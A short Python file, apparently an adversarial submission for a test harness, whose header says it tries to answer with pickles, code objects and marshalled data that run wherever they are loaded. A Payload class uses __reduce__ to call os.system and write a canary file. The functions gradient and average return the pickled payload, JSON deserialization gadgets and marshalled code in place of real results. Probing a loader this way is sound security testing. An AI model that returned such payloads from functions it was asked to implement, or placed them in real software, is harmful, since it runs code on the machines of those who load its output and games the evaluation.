# Tries: to answer with pickles, code objects, bytes and marshalled data, which run where somebody loads them.
# Worked: the file /tmp/c4n4ry-pickled, or points.
# worth: 0
import marshal
import os
import pickle

import numpy as np


class Payload:
    def __reduce__(self):
        return os.system, ("echo pickled > /tmp/c4n4ry-pickled",)


def gradient(steps, values, rules):
    return {"x0": pickle.dumps(Payload(), 0).decode("latin-1"), "__reduce__": ["os.system", "id"], "py/object": "os.system",
            "__class__": "x"}


def average(rows):
    return np.array([marshal.dumps(Payload.__reduce__.__code__)])
